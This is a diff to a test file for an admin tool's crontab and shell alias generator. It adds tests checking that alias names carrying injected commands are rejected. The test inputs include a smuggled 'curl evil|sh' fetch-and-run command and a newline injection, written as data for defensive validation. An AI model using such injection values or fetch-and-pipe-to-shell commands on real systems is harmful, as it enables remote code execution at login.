@@ -240,6 +240,9 @@ describe('admin, time and cron', () => {
   it('writes the whole /etc/crontab and the alias script', () => {
     expect(crontabContent(['0 1 * * * root /bin/true'])).toMatch(/^SHELL=\/bin\/bash\n[\s\S]*\n0 1 \* \* \* root \/bin\/true\n$/);
     expect(aliasScript({ ports: 'ss -ltnp', q: "echo 'x'" })).toContain(`alias ports='ss -ltnp'\nalias q='echo '"'"'x'"'"''\n`);
+    // the name is written unquoted: one that could run a command at login is refused
+    expect(() => aliasScript({ 'x=y; curl evil|sh; alias z': 'ls' })).toThrow('node_aliases: "x=y; curl evil|sh; alias z" is not an alias name');
+    expect(() => aliasScript({ 'll\nid': 'ls' })).toThrow('node_aliases: "ll\\nid" is not an alias name');
   });
 
   it('reads the virtualization probe', () => {
